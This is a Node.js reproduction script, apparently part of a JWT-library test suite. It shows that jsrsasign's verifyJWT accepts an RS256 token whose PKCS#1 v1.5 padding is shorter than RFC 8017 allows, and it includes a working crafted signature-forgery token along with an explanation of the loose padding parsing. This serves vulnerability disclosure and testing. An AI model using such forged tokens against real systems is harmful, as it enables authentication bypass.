// jsrsasign accepts an RS256 signature whose PKCS#1 v1.5 padding string is shorter than eight octets.
//
// RFC 8017 §9.2 (EMSA-PKCS1-v1_5), step 5: PS "consisting of emLen - tLen - 3 octets with
// hexadecimal value 0xff. The length of PS will be at least 8 octets"; §8.2.2 step 4 compares
// the whole encoded message EM' with the one recomputed. RFC 7518 §3.3 names RSASSA-PKCS1-v1_5
// for RS256. jsrsasign's RSAKey.verifyWithMessageHash (src/rsasign-1.2.js) decrypts the
// signature, drops the padding with the regular expression /^1f+00/ (one or more 0xf nibbles,
// after the leading zeros the BigInteger's toString already dropped) and compares only what
// follows with a DigestInfo: neither the padding length nor the encoded message's length is
// checked. This token's encoded message is 0x00 ... 0x00 0x01, seven 0xff, 0x00, DigestInfo:
// it must be refused, and jsrsasign accepts it. The parser is loose enough for forgeries with
// small public exponents (Bleichenbacher 2006 family). The fix of CVE-2021-30246 (10.2.0) added
// a length check to RSAKey.prototype.verify only; KJUR.crypto.Signature, which KJUR.jws.JWS.verify
// uses, calls verifyWithMessageHash, which still lacks it.
//
// Reproduces: rsa/rs256-short-padding-string (forgery)
//
// Run (after scripts/setup/node.sh): node adapters/jsrsasign/repro.mjs
// jsrsasign 11.1.5 is configured exactly as adapters/jsrsasign/adapter.mjs configures it for
// this vector (the key with the token's kid through KEYUTIL.getKey, KJUR.jws.JWS.verifyJWT with
// the profile's algorithms, issuer, audiences, verifyAt and gracePeriod); only jsrsasign and
// Node's standard library are used. No stricter setting exists: verifyJWT's acceptField takes
// alg, iss, sub, aud, jti, verifyAt and gracePeriod, none of which bears on the signature check,
// and jsrsasign has no other JWT verification entry point.

import rs from 'jsrsasign';

const { KJUR, KEYUTIL } = rs;
const ID = 'rsa/rs256-short-padding-string';
const JWK = {
  "alg": "RS256",
  "e": "AQAB",
  "kid": "rsa-2048",
  "kty": "RSA",
  "n": "2ZMM5FrzlwilE7MG6ER-aGOY0l6HYNpwU0GVK7isUvPG2MCK5rhVWolMqhXYzcKKX69grtDzz-TjLgBUKPDow2tIa9plyLoOwNy1UoPkhjpeHV0sPhYpQR2LlMDVcTbYX8tTOKjjwh0R44NlZlxO70MzX4SIKrJYX8EBacimn8W0xUe3TPtICKUVb435Q4daE93psWzWmJPVwI2yY7mZUPmUvKQuFdtMFm2wutTb1_V7FefEZXyIReOYM9IPuUFv7qIF5k6OfGoIQI6a3aQaOyic6Ep7tDi9einTeTNKFmmWhdnVn55EgP34cXQI56yUnlM8MB4VFERUGbZrSMaxyw",
  "use": "sig"
};
const TOKEN =
  'eyJhbGciOiJSUzI1NiIsImtpZCI6InJzYS0yMDQ4IiwidHlwIjoiYXQrand0In0.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxl' +
  'IiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9p' +
  'c3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.pUA0GutgA' +
  'yJhdwZGEZI_kLwk774ZrgymC1cZWcYJuQwIlu44Y3KBGSeq0TjjhBFttMAStZiS1JfrFSNMXmUH84jCs12SuMAJna7P0PAyxhci0' +
  'qVEg2oe5B50Vg9m1RHoEeTvBkZmiL0pdgM0vABeGo09LZlYuNWwJzfnMKDYabCd61uF0-pv-xYexkTCsSFuSPb_DTimQcv5oPX4d' +
  'OnxSUItTPyYY8Kxtw4yYDE4sQ0kGj_JjbOl8vdQ8dWSbecNWrb8j6KeTa2VqyakxjeOhp_zinre-pDIzkmdsYm8uAproHP5clPQG' +
  'mNB7lUIpRsQs9lPcoKe18CISp7kqo--yw';
const ACCEPT = {"alg": ["RS256"], "verifyAt": 1700000000, "gracePeriod": 0, "iss": ["https://issuer.example"], "aud": ["https://api.example"]};

if (KJUR.jws.JWS.verifyJWT(TOKEN, KEYUTIL.getKey(JWK), ACCEPT)) {
  console.log(`REPRODUCED ${ID}: jsrsasign accepted an RS256 signature whose PKCS#1 v1.5 padding string is seven octets, below the eight RFC 8017 requires (the encoded message is not checked as a whole)`);
  process.exit(0);
}
console.log(`NOT REPRODUCED ${ID}: jsrsasign rejected the token`);
process.exit(1);
